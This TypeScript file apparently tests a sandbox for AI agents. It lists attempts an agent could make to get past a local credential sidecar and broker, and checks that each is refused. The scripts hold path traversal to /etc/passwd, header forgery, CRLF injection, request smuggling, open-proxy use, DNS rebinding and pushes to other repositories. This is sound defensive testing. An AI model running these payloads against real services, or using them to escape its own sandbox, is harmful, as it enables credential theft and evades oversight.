import type { GuardedRelease } from "../guarded-release.ts"
import type { Attempt } from "./attempt.ts"

const sidecar = "http://127.0.0.1:7070"

/** A request byte by byte. */
function raw(...lines: string[]): string {
  const text = Buffer.from(`${lines.join("\r\n")}\r\n\r\n`).toString("base64")
  return `exec 3<>/dev/tcp/127.0.0.1/7070; base64 -d <<<${text} >&3; timeout 20 head -c 2000 <&3; echo "[end]"`
}

/** What can be asked of the sidecar, which adds the proof of the pod to whatever it passes on. */
export function atTheSidecar(guarded: GuardedRelease): readonly Attempt[] {
  return [...itself, ...towardsGit(guarded), ...towardsProviders(guarded), ...asAProxy(guarded)]
}

const itself: readonly Attempt[] = [
  {
    name: "paths that it does not have",
    refusedBy: "sidecar: list of routes",
    script: `for path in / /env /metrics /debug /v1/secrets /v1/llm/demo/models /v1/../../etc/passwd; do ask "${sidecar}$path"; done`,
    refusal: /no such route: \/v1\/secrets[^]*no such route: \/v1\/llm\/demo\/models/,
  },
  {
    name: "what it knows of the session",
    refusedBy: "broker: no stored credential is in any answer",
    script: `ask ${sidecar}/v1/workload >"$loot/workload.json"; ask ${sidecar}/v1/environment; jq -c '.resolvers[].name' "$loot/workload.json"`,
    refusal: /^\{\} \[HTTP 200\]/,
  },
]

function towardsGit({ hosts, repository, otherRepository }: GuardedRelease): Attempt[] {
  const own = new URL(repository).pathname
  const refs = "info/refs?service=git-upload-pack"
  return [
    {
      name: "another git host",
      refusedBy: "broker: the session's repository only",
      script: `ask "${sidecar}/git/${hosts.trap}/team/own.git/${refs}"`,
      refusal: /This session may use .* only, not .*\[HTTP 403\]/s,
    },
    {
      name: "reading another repository",
      refusedBy: "broker: the session's repository only",
      script: `git ls-remote ${otherRepository}`,
      refusal: /This session may use .* only, not/,
    },
    {
      name: "pushing to another repository",
      refusedBy: "broker: the session's repository only",
      script: `cd /workspace/repo && git push ${otherRepository} HEAD:refs/heads/taken`,
      refusal: /This session may use .* only, not/,
    },
    {
      name: "the repository's path read as another host",
      refusedBy: "broker: a path stays a path of its host",
      script: `for slashes in // /// '/\\' /.//; do ask "${sidecar}/git/${hosts.git}\${slashes}${own.slice(1)}/${refs}"; done`,
      refusal: /^(Only git's smart HTTP protocol passes here[^[]*\[HTTP 403\]){4}/,
    },
    {
      name: "the git host's other pages",
      refusedBy: "broker: git's smart HTTP only",
      script: `ask "${sidecar}/git/${hosts.git}/api/v3/user"; ask "${sidecar}/git/${hosts.git}${own}/config"`,
      refusal: /Only git's smart HTTP protocol passes here.*\[HTTP 403\]/s,
    },
  ]
}

function towardsProviders({ hosts }: GuardedRelease): Attempt[] {
  return [
    {
      name: "a provider that does not exist",
      refusedBy: "broker: configured providers only",
      script: `ask "${sidecar}/llm/${hosts.trap}/v1/models"; ask "${sidecar}/llm/http:%2f%2f${hosts.trap}/models"`,
      refusal: /There is no model provider .*\[HTTP 404\].*There is no model provider/s,
    },
    {
      name: "leaving the provider's path",
      refusedBy: "sidecar and broker: paths are resolved, what is left upwards is refused",
      script: `for path in /../../../../admin /..%2f..%2fadmin '/..;/admin' /%252e%252e/admin; do ask "${sidecar}/llm/demo$path"; done`,
      refusal: /no such route: \/admin.*(may not lead upwards[^[]*\[HTTP 400\][^[]*){3}/s,
    },
    {
      name: "a provider's answer that shows the request (TRACE)",
      refusedBy: "broker: model requests only",
      script: `ask -X TRACE ${sidecar}/llm/demo/chat/completions`,
      refusal: /TRACE \/chat\/completions is not a model request.*\[HTTP 403\]/,
    },
    {
      name: "others' files at a provider, with the installation's key",
      refusedBy: "broker: model requests only",
      script: `ask "${sidecar}/llm/demo/files"; ask -X DELETE "${sidecar}/llm/demo/files/file-of-another-user"`,
      refusal: /^([^[]* is not a model request[^[]*\[HTTP 403\][^[]*){2}$/,
    },
    {
      name: "a provider's other endpoints and parameters",
      refusedBy: "broker: model requests only",
      script: `ask -X POST "${sidecar}/llm/demo/organization/admin_api_keys" -d '{}'; ask "${sidecar}/llm/demo/models?callback=x"`,
      refusal: /^([^[]* is not a model request[^[]*\[HTTP 403\][^[]*){2}$/,
    },
    {
      name: "a provider's redirect to another host",
      refusedBy: "broker: redirects are not followed",
      script: `ask -L ${sidecar}/llm/demo/redirect`,
      refusal: /redirect, which is not followed.*\[HTTP 502\]/,
    },
    {
      name: "headers of its own: credentials, helper tokens, forwarding",
      refusedBy: "sidecar and broker: dropped, the real ones put in their place",
      script: `ask ${sidecar}/llm/demo/forged -H 'Authorization: Bearer forged-by-the-agent' -H 'X-Berth-Helper-Token: forged-by-the-agent' \\
        -H 'X-Api-Key: forged-by-the-agent' -H 'Cookie: forged-by-the-agent' -H 'X-Forwarded-For: forged-by-the-agent' -H 'Connection: authorization'
        ask ${sidecar}/llm/vertex/forged -H 'X-Berth-Helper-Token: forged-by-the-agent' -H 'Proxy-Authorization: forged-by-the-agent'`,
      refusal: /There is no \/v1\/forged here.*\[HTTP 404\].*There is no \/v1\/forged here/s,
    },
  ]
}

function asAProxy({ hosts }: GuardedRelease): Attempt[] {
  return [
    {
      name: "line breaks in path and header",
      refusedBy: "sidecar: the parser of HTTP",
      script: `ask '${sidecar}/llm/demo%0d%0aX-Injected:%201/models'
        ${raw("GET /llm/demo/models HTTP/1.1", "Host: 127.0.0.1", "X-A: b\rAuthorization: Bearer forged")}`,
      refusal: /The path has a control character.*\[HTTP 400\].*400 Bad Request/s,
    },
    {
      name: "two lengths (request smuggling)",
      refusedBy: "sidecar: the parser of HTTP",
      script: raw(
        "POST /llm/demo/models HTTP/1.1",
        "Host: 127.0.0.1",
        "Content-Length: 4",
        "Transfer-Encoding: chunked",
        "",
        "0",
        "",
        "GET /v1/secrets HTTP/1.1",
        "Host: 127.0.0.1",
      ),
      refusal: /400 Bad Request/,
    },
    {
      name: "a request hidden in the body of another",
      refusedBy: "sidecar and broker: each tells the next where a body ends",
      script: `hidden=$'POST /v1/llm/demo/hidden HTTP/1.1\\r\\nContent-Length: 0\\r\\nX-A: '
        for path in first second; do ask -X GET -H 'Connection: content-length' --data-binary "$hidden" "${sidecar}/llm/demo/$path"; done`,
      refusal: /^[^[]*There is no \/v1\/first here[^[]*\[HTTP 404\][^[]*There is no \/v1\/second here[^[]*\[HTTP 404\]/,
    },
    {
      name: "using it as a proxy",
      refusedBy: "sidecar: paths only",
      script: `${raw(`GET http://${hosts.trap}/ HTTP/1.1`, "Host: 127.0.0.1", "Connection: close")}
        ask -x ${sidecar} https://${hosts.trap}/`,
      refusal: /not a path.*(CONNECT|Empty reply|Proxy|reset)/s,
    },
    {
      name: "a name of its own for loopback (DNS rebinding)",
      refusedBy: "sidecar: Host must be 127.0.0.1",
      script: `ask ${sidecar}/v1/workload -H 'Host: rebound.example.com'`,
      refusal: /only 127\.0\.0\.1 is served here.*\[HTTP 421\]/,
    },
    {
      name: "a flood of reports",
      refusedBy: "broker: 30 in 10 s",
      // One program and one connection: forty of them may take longer than the limit's 10 s.
      script: `ask -w '[HTTP %{http_code}]\\n' $(printf '${sidecar}/v1/report %.0s' $(seq 300)) -H 'content-type: application/json' -d '{"source":"agent"}' | grep -m 1 -o '.HTTP 429.'`,
      refusal: /\[HTTP 429\]/,
    },
  ]
}
